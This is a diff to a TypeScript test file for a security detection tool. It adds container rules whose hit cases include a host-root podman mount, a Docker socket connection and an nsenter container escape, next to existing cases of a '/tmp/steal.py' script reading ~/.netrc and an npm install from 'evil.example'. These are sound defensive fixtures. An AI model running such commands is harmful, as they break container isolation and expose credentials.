@@ -15,6 +15,8 @@ const loud = (det: typeof d, e: Event) => rulesOf(det, e).filter((r) => !r.start
 const refused = (e: Event): Event => ({ ...e, syscall: { ...e.syscall!, success: false, exit: -1 } });
 /** A connect to an address clawav resolved from an allowed name. */
 const viaAllowedName = (e: Event): Event => ({ ...e, net: { ...e.net!, resolved_host: "github.com" } });
+/** A process in a podman container (the container enricher's finding). */
+const IN_BOX = { id: "a".repeat(64), engine: "podman" as const, name: "agent-box" };
 const underInstall = { lineage: [{ pid: 20, exe: "/usr/bin/sh" }, { pid: 10, exe: "/usr/bin/node" }] };
 
 /**
@@ -68,6 +70,9 @@ const CORE: [string, Event, Event, string?, typeof d?][] = [
   ["file.access", open("/usr/bin/python3.11", `${HOME}/.netrc`, { argv: ["python3", "/tmp/steal.py"] }), open("/usr/bin/python3.11", `${HOME}/.netrc`, { argv: ["/home/agent/proj/.venv/bin/python3", "/home/agent/proj/.venv/bin/pip", "install", "wheel"] })],
   ["file.access", open("/usr/bin/python3.11", `${HOME}/.netrc`, { argv: ["python3", "/tmp/bin/pip", "install", "x"] }), open("/usr/bin/python3.11", `${HOME}/.netrc`, { argv: ["python3", "-m", "pip", "install", "wheel"] })],
   ["supply.install-url", exec("npm install https://evil.example/x.tgz"), exec("npm install --registry=https://registry.npmjs.org/ zod")],
+  ["container.risky-run", exec("podman run --rm -v /:/host alpine chroot /host"), exec("podman run --rm -v ./src:/src alpine ls /src")],
+  ["container.engine-socket", { ...connect("/usr/bin/python3.11", "", 0), net: { family: "unix", path: "/run/docker.sock" } }, { ...connect("/usr/bin/docker", "", 0), net: { family: "unix", path: "/run/docker.sock" } }],
+  ["container.escape", exec("nsenter -t 1 -m -u -i -n -p sh", { uid: 0, euid: 0, container: IN_BOX }), exec("nsenter -t 1 -m -u -i -n -p sh", { uid: 0, euid: 0 })],
 ];
 
 describe("core rules: each fires on its hit and stays quiet on its twin", () => {
